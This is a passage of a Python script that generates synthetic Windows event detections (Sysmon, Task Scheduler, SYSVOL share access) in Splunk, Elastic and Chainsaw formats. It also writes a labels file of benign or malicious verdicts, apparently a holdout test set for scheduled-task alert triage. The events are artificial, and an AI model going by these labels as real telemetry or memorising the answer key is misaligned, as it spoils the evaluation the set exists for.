            "TerminalSessionId": 0 if "SYSTEM" in user else 1, "IntegrityLevel": integ,
            "Hashes": "SHA256=%s,IMPHASH=%s" % (h, det_hex("imp", e["image"].lower(), n=32).upper()),
            "ParentProcessGuid": det_uuid("ppguid", e["seq"]), "ParentProcessId": e["ppid"],
            "ParentImage": e["parent_image"], "ParentCommandLine": e["parent_cmdline"],
            "ParentUser": user}


def chainsaw_document(e):
    """(evtx file name, data) of the Windows event the Sigma rule matched."""
    host = e["host"]
    if e["kind"] == "5145":
        dom, name, sid = e["subject"]
        sysb = system_block(e, "Microsoft-Windows-Security-Auditing", SEC_GUID, 5145, 0, 12811, 0,
                            "0x8020000000000000", "Security", 672, None, level=0)
        data = {"SubjectUserSid": sid, "SubjectUserName": name, "SubjectDomainName": dom,
                "SubjectLogonId": e["logon_id"], "ObjectType": "File", "IpAddress": e["ip"], "IpPort": e["port"],
                "ShareName": "\\\\*\\SYSVOL", "ShareLocalPath": "\\??\\C:\\Windows\\SYSVOL\\sysvol",
                "RelativeTargetName": e["rel"], "AccessMask": "0x2", "AccessList": "%%4417\n\t\t\t\t",
                "AccessReason": "%%1541:\t%%1801\tD:(A;;FA;;;BA)\n\t\t\t\t"}
        return "Security.evtx", {"Event_attributes": {"xmlns": "http://schemas.microsoft.com/win/2004/08/events/event"},
                                 "Event": {"System": sysb, "EventData": data}}
    if e.get("task_name"):
        sysb = system_block(e, "Microsoft-Windows-TaskScheduler", TS_GUID, 129, 1, 129, 1, "0x8000000000000000",
                            "Microsoft-Windows-TaskScheduler/Operational", 1620, "S-1-5-18")
        return ("Microsoft-Windows-TaskScheduler%4Operational.evtx",
                {"Event_attributes": {"xmlns": "http://schemas.microsoft.com/win/2004/08/events/event"},
                 "Event": {"System": sysb, "EventData_attributes": {"Name": "CreatedTaskProcess"},
                           "EventData": {"TaskName": e["task_name"], "Path": e["image"], "ProcessID": e["pid"],
                                         "Priority": 16384}}})
    sysb = system_block(e, "Microsoft-Windows-Sysmon", SYSMON_GUID, 1, 5, 1, 0, "0x8000000000000000",
                        "Microsoft-Windows-Sysmon/Operational", 3412, "S-1-5-18")
    return ("Microsoft-Windows-Sysmon%4Operational.evtx",
            {"Event_attributes": {"xmlns": "http://schemas.microsoft.com/win/2004/08/events/event"},
             "Event": {"System": sysb, "EventData": sysmon1_data(e)}})


def make_detection(rule, e):
    rid, level, status, fps, tags, logsource, _ = SIGMA_RULES[rule]
    fname, data = chainsaw_document(e)
    det = {"group": "Sigma", "kind": "individual",
           "document": {"kind": "evtx", "path": "%s/%s/%s" % (CASE_DIR, e["host"].upper(), fname), "data": data},
           "name": rule, "timestamp": chainsaw_time(e["time"]),
           "authors": SIGMA_AUTHORS.get(rule, ["Nasreddine Bencherchali (Nextron Systems)"]),
           "level": "info" if level == "informational" else level, "source": "sigma",
           "status": "stable" if status == "stable" else "experimental", "falsepositives": list(fps), "id": rid,
           "logsource": logsource, "tags": tags}
    return det


def number_records(detections):
    """EventRecordIDs rise with time per host and evtx file; one event keeps its id across the rules it hits."""
    ids, by_event = {}, {}
    for _, _, det, e, _ in sorted(detections, key=lambda d: (d[0], d[1])):
        key = (det["document"]["path"], e["seq"])
        if key not in by_event:
            base = ids.get(det["document"]["path"])
            if base is None:
                base = 20000 + int(det_hex("recbase", det["document"]["path"], n=6), 16) % 900000
            base += rng.randrange(3, 400)
            ids[det["document"]["path"]] = base
            by_event[key] = base
        det["document"]["data"]["Event"]["System"]["EventRecordID"] = by_event[key]


# ----------------------------------------------------------------------------------------------
# Output
# ----------------------------------------------------------------------------------------------

SPLUNK_FILE = "holdout_splunk_notables.csv"
ELASTIC_FILE = "holdout_elastic_alerts.ndjson"
CHAINSAW_FILE = "holdout_chainsaw_sigma.jsonl"


def note_ids(notes):
    return ";".join("t1053-%02d" % n for n in notes)


def gt_of(rule, e):
    st = e["story"]
    return dict(verdict=st["verdict"], notes=st["notes"].get(rule, []) if st["verdict"] == "benign" else [],
                scenario=st["scenario"])


def main():
    build_events()
    resolve_notes()
    splunk, sink, chainsaw = [], fw.AlertSink(), []
    for e in fw.EVENTS:
        for rule in splunk_match(e):
            row, when, gt = fw.make_notable(rule, e)
            splunk.append((when, len(splunk), row, gt))
        for rule in elastic_match(e):
            fw.make_alerts(rule, e, sink)
        for rule in sigma_match(e):
            chainsaw.append((e["time"], len(chainsaw), make_detection(rule, e), e, gt_of(rule, e)))
    number_records(chainsaw)
    splunk.sort(key=lambda r: (-r[0].timestamp(), r[1]))          # Incident Review: newest first
    docs = sorted(sink.docs, key=lambda d: (-d[0].timestamp(), d[1]))
    chainsaw.sort(key=lambda d: (d[0], d[1]))                     # Chainsaw: oldest first

    with open(os.path.join(HERE, SPLUNK_FILE), "w", encoding="utf-8", newline="") as f:
        w = csv.writer(f, lineterminator="\n")
        w.writerow(fw.SPLUNK_HEADER)
        for _, _, row, _ in splunk:
            w.writerow([row[c] for c in fw.SPLUNK_HEADER])
    with open(os.path.join(HERE, ELASTIC_FILE), "w", encoding="utf-8", newline="\n") as f:
        for _, _, doc, _ in docs:
            f.write(json.dumps(doc, separators=(",", ":"), ensure_ascii=False) + "\n")
    with open(os.path.join(HERE, CHAINSAW_FILE), "w", encoding="utf-8", newline="\n") as f:
        for _, _, det, _, _ in chainsaw:
            f.write(json.dumps(det, separators=(",", ":"), ensure_ascii=False) + "\n")
    rows = ([(SPLUNK_FILE, i, gt) for i, (_, _, _, gt) in enumerate(splunk)]
            + [(ELASTIC_FILE, i, gt) for i, (_, _, _, gt) in enumerate(docs)]
            + [(CHAINSAW_FILE, i, gt) for i, (_, _, _, _, gt) in enumerate(chainsaw)])
    with open(os.path.join(HERE, "labels.csv"), "w", encoding="utf-8", newline="") as f:
        w = csv.writer(f, lineterminator="\n")
        w.writerow(["source_file", "record_no", "verdict", "notes", "scenario"])
        for name, i, gt in rows:
            w.writerow([name, i, gt["verdict"], note_ids(gt["notes"]), gt["scenario"]])
    for name in (SPLUNK_FILE, ELASTIC_FILE, CHAINSAW_FILE):
        mine = [gt for n, _, gt in rows if n == name]
        m = sum(1 for gt in mine if gt["verdict"] == "malicious")
        print("%-30s %4d records  benign %4d  malicious %3d" % (name, len(mine), len(mine) - m, m))
    m = sum(1 for _, _, gt in rows if gt["verdict"] == "malicious")
    print("%-30s %4d records  benign %4d  malicious %3d" % ("total", len(rows), len(rows) - m, m))


if __name__ == "__main__":
    main()
